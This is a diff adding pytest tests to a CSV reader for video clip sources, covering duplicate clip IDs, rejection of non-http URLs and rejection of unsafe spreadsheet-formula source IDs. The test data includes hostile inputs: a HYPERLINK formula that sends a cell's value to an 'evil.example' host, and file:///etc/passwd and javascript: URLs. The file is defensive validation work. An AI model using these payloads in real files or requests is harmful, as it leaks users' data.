@@ -87,3 +87,36 @@ def test_help_does_not_import_torch() -> None:
     code = "import sys; from vaar.cli import main\ntry: main(['--help'])\nexcept SystemExit: pass\nprint('torch' in sys.modules)"
     out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout
     assert out.strip().endswith("False")
+
+
+def test_duplicate_clip_id_keeps_the_first_row_and_keys_the_second_apart(tmp_path: Path) -> None:
+    a = write(tmp_path, "x,https://example.com/v,1,5,crash,,,\ny,https://example.com/v,1,5,ufo,,,\n", "a.csv")
+    (tmp_path / "b").mkdir()  # the same file name in another folder
+    b = write(tmp_path / "b", "x,https://example.com/w,1,5,crash,,,\ny,https://example.com/w,1,5,crash,,,\n", "a.csv")
+    valid, invalid = read_sources([a, b])
+    assert [(r.clip_id, r.source_file) for r in valid] == [("x", str(a))]
+    by_key = {i.clip_id: i for i in invalid}
+    # 'y' is owned by its first (invalid) row; the later valid 'y' is the duplicate
+    assert "unknown label" in by_key["y"].reason
+    dups = [i for i in invalid if "duplicate" in i.reason]
+    assert len(dups) == 2 and all(i.clip_id.startswith("invalid:a.csv:") for i in dups)
+    assert len({i.clip_id for i in invalid} | {"x"}) == 4  # every row has its own key
+    assert f"duplicate clip_id 'x', first at {a}:2" in dups[0].reason
+    assert f"first at {a}:3" in dups[1].reason
+
+
+@pytest.mark.parametrize(
+    "url", ["file:///etc/passwd", "data:video/mp4;base64,AAAA", "ftp://example.org/v.mp4", "gopher://x/1",
+            "http:///nohost.mp4", "javascript:alert(1)"],
+)  # fmt: skip
+def test_non_http_urls_are_invalid(tmp_path: Path, url: str) -> None:
+    _, invalid = read_sources([write(tmp_path, f'c,"{url}",1,5,crash,,,\n')])
+    assert len(invalid) == 1 and "only http(s) URLs with a host" in invalid[0].reason
+
+
+@pytest.mark.parametrize("sid", ['=HYPERLINK("https://evil.example/?x"&A1;"click")', "+1+1", "-2+3", "@SUM(A1)",
+                                 "\t=1+1", "a b"])  # fmt: skip
+def test_formula_source_id_is_invalid(tmp_path: Path, sid: str) -> None:
+    quoted = '"' + sid.replace('"', '""') + '"'
+    _, invalid = read_sources([write(tmp_path, f"c,https://example.com/v,1,5,crash,{quoted},,\n")])
+    assert len(invalid) == 1 and "unsafe source_id" in invalid[0].reason, invalid
